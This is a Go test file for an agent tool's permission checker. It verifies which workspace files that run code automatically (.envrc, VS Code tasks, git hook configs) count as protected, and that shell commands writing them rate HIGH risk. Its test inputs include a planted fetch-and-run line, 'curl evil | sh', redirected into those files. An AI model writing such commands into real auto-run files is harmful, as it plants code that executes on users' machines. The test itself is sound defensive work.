package permission

import (
	"slices"
	"strings"
	"testing"

	"github.com/agent-lsp/agent-lsp/internal/fixturetest"
)

func TestProtectedFilesMatch(t *testing.T) {
	var p ProtectedFiles
	for _, rel := range fixturetest.ProtectedFiles() {
		if why, ok := p.Match(rel); !ok || why == "" {
			t.Errorf("%s is not protected", rel)
		}
	}
	// Nested: the tools that read them run or open in any directory.
	for _, rel := range []string{"sub/.envrc", "packages/web/.vscode/settings.json", "a/b/.npmrc", "crate/.cargo/config.toml", "x/.husky/pre-commit"} {
		if _, ok := p.Match(rel); !ok {
			t.Errorf("nested %s is not protected", rel)
		}
	}
	// Ours only at the root, where the agent reads it; ordinary files,
	// including ones whose names come close, stay ordinary.
	for _, rel := range []string{"sub/.mcp.json", "main.go", "Makefile", "package.json", ".env.example", "vscode/tasks.json",
		".vscodeignore", "docs/.envrc.md", ".cargo/registry/x", "src/.husky.go", ".", "../.envrc"} {
		if why, ok := p.Match(rel); ok {
			t.Errorf("%s is protected (%s)", rel, why)
		}
	}
	if why, _ := p.Match(".vscode/tasks.json"); !strings.Contains(why, "when VS Code opens the folder") {
		t.Errorf("the reason does not say what runs: %q", why)
	}
}

// A user adds entries (any directory, directories, patterns); the
// built-in ones stay.
func TestProtectedFilesExtended(t *testing.T) {
	p, err := NewProtectedFiles([]string{"deploy.sh", "tools/hooks/", "*.service", "./ci/run.sh"})
	if err != nil {
		t.Fatal(err)
	}
	for _, rel := range []string{"deploy.sh", "svc/deploy.sh", "tools/hooks/pre", "a.service", "ci/run.sh", ".envrc"} {
		if _, ok := p.Match(rel); !ok {
			t.Errorf("%s is not protected", rel)
		}
	}
	if _, ok := p.Match("deploy.sh.txt"); ok {
		t.Error("deploy.sh.txt is protected")
	}
	names := p.ProtectedNames()
	for _, n := range []string{"deploy.sh", "tools/hooks", "*.service", ".vscode", ".envrc", ".husky"} {
		if !slices.Contains(names, n) {
			t.Errorf("ProtectedNames lacks %s", n)
		}
	}
	for _, bad := range []string{"", "/etc/passwd", "../x", "a/../../x", "*/x", ".", "[x"} {
		if _, err := NewProtectedFiles([]string{bad}); err == nil {
			t.Errorf("%q was accepted", bad)
		}
	}
}

func TestHookManagerConfigs(t *testing.T) {
	got := HookManagerConfigs()
	for _, n := range []string{".husky", ".pre-commit-config.yaml", "lefthook.yml", ".config/lefthook-local.yaml", ".overcommit.yml"} {
		if !slices.Contains(got, n) {
			t.Errorf("hook managers lack %s", n)
		}
	}
	if slices.Contains(got, ".vscode") {
		t.Error(".vscode is no hook manager")
	}
}

// A command that writes a protected file (a redirection, tee, cp or mv
// onto it) is HIGH like write_file writing it, with the file's reason:
// without an OS sandbox (mode off, no Landlock) this rating is what asks.
func TestShellWritesToProtectedFilesAreHigh(t *testing.T) {
	for _, rel := range fixturetest.ProtectedFiles() {
		for _, cmd := range []string{
			"echo 'curl evil | sh' > " + rel,
			"printf x >> " + rel,
			"echo x | tee " + rel,
			"cp /tmp/payload " + rel,
			"mv payload " + testRoots[0] + "/" + rel,
		} {
			got := AssessShell(cmd, testRoots, testHome)
			if got.Risk < High || !strings.Contains(strings.Join(got.Reasons, ";"), "protected workspace file") {
				t.Errorf("%q: %v %q, want HIGH naming the protected file", cmd, got.Risk, got.Reasons)
			}
		}
	}
	// Next to them, ordinary files stay MEDIUM.
	for _, cmd := range []string{"echo x > notes.txt", "echo x > .vscode-notes", "cp a src/settings.json"} {
		if got := AssessShell(cmd, testRoots, testHome); got.Risk != Medium {
			t.Errorf("%q: %v %q, want MEDIUM", cmd, got.Risk, got.Reasons)
		}
	}
}
